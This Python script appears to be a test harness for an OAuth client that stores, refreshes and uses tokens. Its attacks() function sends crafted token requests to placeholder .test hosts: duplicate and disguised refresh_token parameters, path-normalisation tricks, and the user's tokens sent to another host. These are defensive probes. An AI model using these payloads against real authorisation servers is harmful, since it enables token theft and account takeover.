"""A program with a login, as agents are: it keeps tokens in a file, uses them, renews them, and logs in. Prints what it was answered."""
import json
import os
import subprocess
import sys

FILE = sys.argv[1]
# How it gets to the servers where nobody leads it there.
OPTIONS = os.environ.get("CURL_OPTIONS", "").split()
ENDPOINT = os.environ.get("ENDPOINT", "https://auth.test/oauth/token")


def load():
    with open(FILE) as file:
        return json.load(file)


def tokens():
    return load()["tokens"]


def store(answer):
    document = {}
    if os.path.exists(FILE):
        document = load()
    kept = document.setdefault("tokens", {})
    for name in ("access_token", "refresh_token", "id_token"):
        if name in answer:
            kept[name] = answer[name]
    os.makedirs(os.path.dirname(FILE), exist_ok=True)
    with open(FILE + ".new", "w") as file:
        json.dump(document, file)
    os.replace(FILE + ".new", FILE)


def ask(*words, body=None):
    done = subprocess.run(["curl", "-sS", "-m", "20", *OPTIONS, *words], input=body, capture_output=True, text=True)
    return done.stdout if done.returncode == 0 else f"failed: {done.stderr}"


def post(body, kind="application/json", url=ENDPOINT):
    return ask("-H", f"content-type: {kind}", "--data-binary", "@-", url, body=body)


def me():
    return ask("-H", f"authorization: Bearer {tokens()['access_token']}", "https://api.test/me")


def renew():
    body = {"grant_type": "refresh_token", "refresh_token": tokens()["refresh_token"], "client_id": "agent"}
    answer = json.loads(post(json.dumps(body, separators=(",", ":"))))
    store(answer)
    return answer


def renew_by_form():
    answer = json.loads(post(f"grant_type=refresh_token&refresh_token={tokens()['refresh_token']}&client_id=agent",
                             "application/x-www-form-urlencoded"))
    store(answer)
    return answer


def login(account, url=ENDPOINT):
    answer = json.loads(post(json.dumps({"grant_type": "authorization_code", "code": account}), url=url))
    store(answer)
    return answer


def attacks():
    """Ways to have a token given out, or to have one's own taken for the user's."""
    mine = tokens()["refresh_token"]
    # A login of the attacker's own, which it holds.
    own = os.environ["OWN_REFRESH"]
    form = "application/x-www-form-urlencoded"
    both = {"grant_type": "refresh_token", "refresh_token": own}
    yield "a refresh token of its own", post(json.dumps(both))
    yield "two refresh tokens", post('{"grant_type":"refresh_token","refresh_token":"%s","refresh_token":"%s"}' % (mine, own))
    yield "two, the other way round", post('{"grant_type":"refresh_token","refresh_token":"%s","refresh_token":"%s"}' % (own, mine))
    yield "two in a form", post(f"grant_type=refresh_token&refresh_token={own}&refresh_token={mine}", form)
    yield "the user's beside another name", post(json.dumps({**both, "token": mine}))
    yield "a code with the user's refresh token", post(
        json.dumps({"grant_type": "authorization_code", "code": "attacker", "refresh_token": mine}))
    yield "one in the query", post(
        json.dumps({"grant_type": "refresh_token", "refresh_token": mine}), url=f"{ENDPOINT}?refresh_token={own}")
    yield "a deeper one", post(json.dumps({"grant_type": "refresh_token", "more": {"refresh_token": mine}, "refresh_token": own}))
    yield "another spelling of a name", post(
        '{"grant_type":"refresh_token","refresh\\u005ftoken":"%s","refresh_token":"%s"}' % (own, mine))
    yield "another type of body", post(f'{{"grant_type":"refresh_token","refresh_token":"{mine}"}}', "text/plain")
    yield "another path", post(json.dumps({"grant_type": "refresh_token", "refresh_token": mine}),
                               url="https://auth.test/oauth/revoke")
    yield "taking the login back", post(json.dumps({"token": mine}), url="https://auth.test/oauth/token/revoke")
    yield "the interface of another host", ask("-H", f"authorization: Bearer {tokens()['access_token']}", "https://other.test/me")
    yield "an endpoint of another host", post(
        json.dumps({"grant_type": "refresh_token", "refresh_token": mine}), url="https://other.test/oauth/token")
    yield "as a header", ask("-H", f"authorization: Bearer {mine}", "https://auth.test/me")
    yield "an answer that says it again", post(json.dumps({"grant_type": "refresh_token", "refresh_token": mine + "x"}))
    for path in ("/oauth//token", "/oauth/./token", "/OAuth/token", "/oauth/%74oken", "/oauth/token/", "/oauth/token/more"):
        yield f"a code at {path}", ask("--path-as-is", "-H", "content-type: application/json", "--data-binary", "@-",
                                       f"https://auth.test{path}",
                                       body=json.dumps({"grant_type": "authorization_code", "code": "user"}))


if __name__ == "__main__":
    command = sys.argv[2]
    if command == "attacks":
        for name, answer in attacks():
            print(json.dumps([name, answer]))
    else:
        given = {"me": me, "renew": renew, "renew-by-form": renew_by_form, "file": load}.get(command)
        result = given() if given else login(command.removeprefix("login:"))
        print(result if isinstance(result, str) else json.dumps(result))
